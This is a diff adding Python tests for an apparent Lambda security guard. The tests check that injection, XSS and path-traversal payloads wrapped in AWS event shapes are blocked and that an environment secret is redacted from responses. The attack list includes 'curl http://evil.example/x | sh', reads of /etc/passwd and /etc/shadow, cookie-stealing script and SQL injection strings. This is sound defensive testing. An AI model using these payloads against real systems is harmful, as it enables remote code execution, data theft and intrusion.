@@ -102,3 +102,188 @@ def test_real_runtime_api_only_through_the_proxy(function, tmp_path):
     assert deny[0]["request_id"], deny[0]
     status, _, body = f.invoke({})
     assert status == 200 and "rid" in json.loads(body)
+
+
+# ---- event and response inspection ------------------------------------------
+
+import base64  # noqa: E402
+import os  # noqa: E402
+
+SEEN_APP = '''
+import json, os
+def handler(event, ctx):
+    with open(os.path.join(os.environ["LAMBDA_TASK_ROOT"], "seen.jsonl"), "a") as f:
+        f.write(json.dumps(event) + "\\n")
+    if isinstance(event, dict) and event.get("leak"):
+        return {"debug": os.environ.get(event["leak"], "none")}
+    return {"ok": True}
+'''
+
+INSPECT_POLICY = """version: 1
+events:
+  detect: [sqli, cmdi, xss, path_traversal]
+  rule_files: [in_protect.txt]
+  action: {action}
+responses:
+  secrets: env
+  action: deny
+"""
+
+SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"
+
+
+def sns(message):
+    return {"Records": [{"EventSource": "aws:sns", "EventVersion": "1.0",
+                         "Sns": {"Type": "Notification", "Subject": "orders",
+                                 "Message": message}}]}
+
+
+def sqs(body):
+    return {"Records": [{"eventSource": "aws:sqs", "messageId": "m1", "body": body}]}
+
+
+def s3(key):
+    return {"Records": [{"eventSource": "aws:s3", "eventName": "ObjectCreated:Put",
+                         "s3": {"bucket": {"name": "b"}, "object": {"key": key, "size": 5}}}]}
+
+
+def apigw_v1(body, b64=False, qs=None):
+    return {"resource": "/orders", "path": "/orders", "httpMethod": "POST",
+            "headers": {"Content-Type": "application/x-www-form-urlencoded"},
+            "queryStringParameters": qs, "requestContext": {"stage": "prod"},
+            "body": base64.b64encode(body.encode()).decode() if b64 else body,
+            "isBase64Encoded": b64}
+
+
+def apigw_v2(raw_query):
+    return {"version": "2.0", "routeKey": "GET /search", "rawPath": "/search",
+            "rawQueryString": raw_query, "requestContext": {"http": {"method": "GET"}},
+            "isBase64Encoded": False}
+
+
+def alb(body):
+    return {"requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:x"}},
+            "httpMethod": "POST", "path": "/", "body": body, "isBase64Encoded": False}
+
+
+def eventbridge(detail):
+    return {"version": "0", "detail-type": "Order Placed", "source": "com.shop",
+            "detail": detail}
+
+
+def dynamodb(text):
+    return {"Records": [{"eventSource": "aws:dynamodb", "eventName": "INSERT",
+                         "dynamodb": {"NewImage": {"note": {"S": text}}}}]}
+
+
+def inspected(function, tmp_path, action="deny"):
+    (tmp_path / "in_protect.txt").write_text(
+        "# legacy protectLambda lines, unchanged\n(?i)drop\\s+table\n.*\\bxp_cmdshell\\b.*\n")
+    pol = tmp_path / "p.yaml"
+    pol.write_text(INSPECT_POLICY.format(action=action))
+    log = tmp_path / "fnguard.jsonl"
+    f = function([FNGUARD, "run", "-p", str(pol), "--log", str(log), "--", PY, BOOTSTRAP],
+                 app=SEEN_APP, env_extra={"AWS_SECRET_ACCESS_KEY": SECRET})
+    return f, log
+
+
+def seen(tmp_path):
+    p = tmp_path / "seen.jsonl"
+    return [json.loads(line) for line in p.read_text().splitlines()] if p.exists() else []
+
+
+def log_events(log):
+    return [json.loads(line) for line in log.read_text().splitlines()]
+
+
+ATTACKS = [
+    ("sqli", "aws:sns", "Records[0].Sns.Message|json.id",
+     sns(json.dumps({"id": "1' OR '1'='1' -- "}))),
+    ("sqli", "aws:sqs", "Records[0].body", sqs("x' UNION SELECT password FROM users--")),
+    ("cmdi", "aws:apigateway", "body|base64",
+     apigw_v1("name=x; cat /etc/passwd", b64=True)),
+    ("cmdi", "aws:apigateway", "queryStringParameters.host",
+     apigw_v1("", qs={"host": "8.8.8.8 && curl http://evil.example/x | sh"})),
+    ("xss", "aws:apigateway:v2", "rawQueryString|url",
+     apigw_v2("q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")),
+    ("path_traversal", "aws:s3", "Records[0].s3.object.key", s3("../../../../etc/passwd")),
+    ("sqli", "aws:alb", "body|url", alb("user=admin%27%20OR%201%3D1--&pw=x")),
+    ("xss", "aws:events", "detail.comment", eventbridge({"comment": "<img src=x onerror=alert(1)>"})),
+    ("rule", "aws:dynamodb", "Records[0].dynamodb.NewImage.note.S", dynamodb("drop   TABLE orders")),
+]
+
+
+def test_attacks_never_reach_the_handler(function, tmp_path):
+    f, log = inspected(function, tmp_path)
+    for attack, source, path, event in ATTACKS:
+        status, headers, body = f.invoke(event)
+        err = json.loads(body)
+        assert headers.get("X-Amz-Function-Error") == "Unhandled", (attack, body)
+        assert err["errorType"] == "Security.Violation", (attack, err)
+        assert err["errorMessage"].startswith("Security Violation"), err
+    assert seen(tmp_path) == [], "an attack reached the handler"
+    got = [e for e in log_events(log) if e["event"] == "invoke"]
+    assert [(e["attack"], e["source"], e["json_path"]) for e in got] == \
+        [(a, s, p) for a, s, p, _ in ATTACKS], got
+    assert all(e["action"] == "deny" and e["request_id"] and e["payload"] for e in got), got
+    assert got[-1]["rule"].startswith("in_protect.txt:"), got[-1]
+    status, _, body = f.invoke(sns("hello"))  # the runtime keeps serving
+    assert json.loads(body) == {"ok": True} and len(seen(tmp_path)) == 1
+
+
+BENIGN = [
+    sns("O'Reilly's \"Learning SQL\" -- 5 stars; would select again & again"),
+    sns(json.dumps({"order": 42, "note": "Don't ring the bell -- leave it at the door"})),
+    sqs("Meeting at 10:30; bring the Q3 report (draft) & coffee"),
+    s3("photos/2026/summer trip/IMG_0042.jpg"),
+    apigw_v1("name=Jean-Luc+O%27Brien&comment=It%27s+fine+%E2%80%94+really", b64=False),
+    apigw_v1('{"comment": "1 or 2 items, select the cheaper one"}', b64=True),
+    apigw_v2("q=rock+%26+roll&page=2"),
+    alb("a < b and c > d; x = y/2"),
+    eventbridge({"user": "o'hara", "path": "docs/../README.md"}),
+    dynamodb("Tom & Jerry; cat videos are the best"),
+    "not json at all: just a plain string with 'quotes'",
+]
+
+
+def test_benign_events_of_every_source_pass(function, tmp_path):
+    f, log = inspected(function, tmp_path)
+    for event in BENIGN:
+        status, headers, body = f.invoke(event)
+        assert status == 200 and "X-Amz-Function-Error" not in headers, (event, body)
+    assert len(seen(tmp_path)) == len(BENIGN)
+    assert not [e for e in log_events(log) if e["event"] == "invoke"]
+
+
+def test_response_with_a_secret_is_replaced(function, tmp_path):
+    f, log = inspected(function, tmp_path)
+    status, headers, body = f.invoke({"leak": "AWS_SECRET_ACCESS_KEY"})
+    assert SECRET.encode() not in body, "the secret left in the response"
+    assert json.loads(body)["errorType"] == "Security.Violation", body
+    text = log.read_text()
+    assert SECRET not in text, "the secret is in the log"
+    resp = [e for e in log_events(log) if e["event"] == "response"]
+    assert resp and resp[0]["rule"] == "secrets: env", resp
+    assert "[REDACTED:AWS_SECRET_ACCESS_KEY]" in resp[0]["match"], resp
+    status, _, body = f.invoke({"leak": "NOT_SET"})
+    assert json.loads(body) == {"debug": "none"}
+
+
+def test_audit_lets_it_through_and_kill_ends_the_workload(function, tmp_path):
+    f, log = inspected(function, tmp_path, action="log")
+    status, headers, body = f.invoke(s3("../../etc/shadow"))
+    assert json.loads(body) == {"ok": True}, body
+    assert [e["action"] for e in log_events(log) if e["event"] == "invoke"] == ["audit"]
+    f.close()
+    (tmp_path / "url").unlink()
+    (tmp_path / "seen.jsonl").unlink()
+    g, log2 = inspected(function, tmp_path, action="kill")
+    status, headers, body = g.invoke(sqs("1; DROP TABLE users"))
+    assert json.loads(body)["errorType"] == "Security.Violation", body
+    assert seen(tmp_path) == []
+    status, _, body = g.invoke(sqs("fine"))  # a fresh runtime
+    assert json.loads(body) == {"ok": True}, body
+    events = log_events(log2)  # the killed run's lines are all written by now
+    assert any(e["event"] == "exit" and e["status"] == 159 for e in events), events
+    # One log file for both runs: the audit run's line, then the kill.
+    assert [e["action"] for e in events if e["event"] == "invoke"] == ["audit", "kill"], events
